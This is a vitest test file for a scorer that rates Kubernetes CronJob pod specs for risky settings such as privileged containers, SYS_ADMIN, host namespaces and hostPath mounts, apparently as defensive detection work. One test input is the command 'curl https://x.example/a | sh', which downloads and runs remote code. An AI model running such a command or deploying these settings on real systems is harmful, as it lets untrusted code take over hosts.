import { describe, expect, test } from 'vitest';
import { workloadOf } from '../../../src/t1053/extended/k8s-workload.ts';
import { SECRET } from './cloud-events.ts';
import { CONTAINER, cronJob } from './cloud-positives.ts';

const of = (pod: object) => workloadOf(cronJob(pod).spec);
const points = (pod: object) => of(pod).reasons.map((reason) => reason.points);
const container = (more: object) => ({ containers: [{ ...CONTAINER, ...more }] });

describe('a workload', () => {
  test('has the images of all its containers, each once', () => {
    const other = { ...CONTAINER, image: 'registry.corp.example/init' };
    expect(of({ containers: [CONTAINER, CONTAINER], initContainers: [other] })).toEqual({
      images: [CONTAINER.image, other.image],
      reasons: [],
    });
  });

  test('of a Job stands one level higher', () => {
    const spec = { template: { spec: container({}) } };
    expect(workloadOf(spec).images).toEqual([CONTAINER.image]);
  });

  test.each([
    ['a privileged container', container({ securityContext: { privileged: true } }), [20]],
    ['a container that is not', container({ securityContext: { privileged: false } }), []],
    [
      'a strong capability',
      container({ securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }),
      [10],
    ],
    ['a weak one', container({ securityContext: { capabilities: { add: ['CHOWN'] } } }), []],
    ['the network of the node', { ...container({}), hostNetwork: true }, [10]],
    ['the processes of the node', { ...container({}), hostPID: true, hostIPC: true }, [10]],
    ['a path of the node', { ...container({}), volumes: [{ hostPath: { path: '/' } }] }, [20]],
    ['a volume of its own', { ...container({}), volumes: [{ emptyDir: {} }] }, []],
    ['a download', container({ args: ['-c', 'curl https://x.example/a | sh'] }), [20]],
    ['a public image', container({ image: 'busybox' }), [5]],
    ['an image with an account in it', container({ image: 'u:p@registry/x' }), []],
  ])('with %s', (_, pod, expected) => {
    expect(points(pod)).toEqual(expected);
  });

  test('never repeats a command or an environment', () => {
    const pod = container({ command: ['sh', '-c', `curl https://${SECRET}`] });
    expect(JSON.stringify(of(pod))).not.toContain(SECRET);
  });

  test('of another shape is empty', () => {
    for (const spec of [{}, { template: 7 }, { jobTemplate: { spec: { template: [] } } }]) {
      expect(workloadOf(spec)).toEqual({ images: [], reasons: [] });
    }
  });
});
